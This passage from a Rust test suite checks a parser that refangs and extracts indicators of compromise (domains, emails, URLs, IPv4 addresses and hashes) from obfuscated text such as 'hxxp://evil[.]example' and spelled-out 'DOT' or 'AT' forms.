    assert_eq!(refang("hxxp://evil[.]example/x"), "http://evil.example/x");
    assert_eq!(refang("hxxp://evil.example/x"), "http://evil.example/x");
    assert_eq!(refang("a[@]b[.]internal"), "a@b.internal");
    // what is not defanged stays as written, and prose stays prose
    assert_eq!(
        refang("plain.example and the (dot) word, a [.] b"),
        "plain.example and the (dot) word, a [.] b"
    );
}

#[test]
fn hash_names_on_the_line_before_or_joined() {
    none(
        "imphash:\n713e4b4d04c227243522386f7753aa08 and authentihash-713e4b4d04c227243522386f7753aa08",
    );
    none("Dropper import hash\n713e4b4d04c227243522386f7753aa08");
    check(
        "md5:\n713e4b4d04c227243522386f7753aa08",
        &[("md5", "713e4b4d04c227243522386f7753aa08")],
    );
}

cases! {
    grammar_prose_forms_take_up_to_three_spaces: "ops  AT  relay-mail.net, ops2  @ relay-mail.net and c2-node  DOT  org" =>
        [("email", "ops@relay-mail.net"), ("email", "ops2@relay-mail.net"), ("domain", "c2-node.org")];
    grammar_core_glued_before_a_bracket: "stage2DOT]site, drop-zonepunkt)de and opsarroba}relay-mail.net, ops2AT]relay-mail.net" =>
        [("domain", "stage2.site"), ("domain", "drop-zone.de"), ("email", "ops@relay-mail.net"), ("email", "ops2@relay-mail.net")];
    grammar_core_inside_a_word: "relay-dot-site, c2nodeDOTnet and mail@relay-nodeDOTorg" =>
        [("domain", "relay.site"), ("domain", "c2node.net"), ("email", "mail@relay-node.org")];
    scheme_half_bracket: "hxxps]://relay[.]site/a" => [("url", "https://relay.site/a")];
    scheme_space_after_any_separator: "https// relay[.]site/a and https:/// relay2[.]site/b" =>
        [("url", "https://relay.site/a"), ("url", "https://relay2.site/b")];
    url_escaped_slashes_after_plain_scheme: "https://relay.site\\/gate.php" => [("url", "https://relay.site/gate.php")];
    url_at_defang_in_query: "hxxps://relay[.]site/r?to=ops[@]relay-mail[.]net" => [("url", "https://relay.site/r?to=ops@relay-mail.net")];
}

#[test]
fn spelled_dots_inside_words_keep_real_names() {
    // capitals around `DOT`, one-sided hyphens: real labels, not defangs
    check(
        "WWW.MDOT.EXAMPLE.COM and accounts.dot-star.online",
        &[
            ("domain", "www.mdot.example.com"),
            ("domain", "accounts.dot-star.online"),
        ],
    );
    none("getDOTNetVersion and a polka-dot-dress and whatDOT");
    none("(the format)is fine and (see that)again");
}

#[test]
fn percent_escapes_separate_words() {
    check(
        "log: next=https%3A%2F%2Frelay-node.net%2Fgate and %2Fdrop-zone.org",
        &[("domain", "relay-node.net"), ("domain", "drop-zone.org")],
    );
    none("%APPDATA%\\svc.dat and %TEMP%.x");
}

cases! {
    grammar_repeated_and_escaped_brackets: "relay[[[.]]]site, 10[[.]]20[[.]]30[[.]]40 and relay2\\(.\\)net" =>
        [("domain", "relay.site"), ("ipv4", "10.20.30.40"), ("domain", "relay2.net")];
    grammar_escaped_dot_runs: "relay\\\\\\\\.site and relay2 \\. org" => [("domain", "relay.site"), ("domain", "relay2.org")];
    grammar_trailing_space_after_full_bracket: "a[.]relay[.] site" => [("domain", "a.relay.site")];
    grammar_at_sign_spaced_one_side: "ops @relay-mail[.]net and ops2@ relay-mail[.]net" =>
        [("email", "ops@relay-mail.net"), ("email", "ops2@relay-mail.net")];
    grammar_spelled_at_bracketed_dot: "write ops at relay-mail[dot]net" => [("email", "ops@relay-mail.net")];
    scheme_ftp_blotted: "ftx://relay.site/a and fxp://relay2.site/b" => [("url", "ftp://relay.site/a"), ("url", "ftp://relay2.site/b")];
    url_paren_slash_in_path: "hxxp://relay(.)site(/)gate(/)x" => [("url", "http://relay.site/gate/x")];
}

#[test]
fn prose_at_before_bracketed_word_dot_stays_prose() {
    check("look at relay[dot]site today", &[("domain", "relay.site")]);
    check("traffic at relay[dot]site", &[("domain", "relay.site")]);
}

#[test]
fn bracketed_slash_must_close_with_its_pair() {
    // found by fuzzing: `[/[` is no path separator
    check(
        "d-photos-shark[.]site[/[.]site[/]p",
        &[("domain", "d-photos-shark.site")],
    );
}
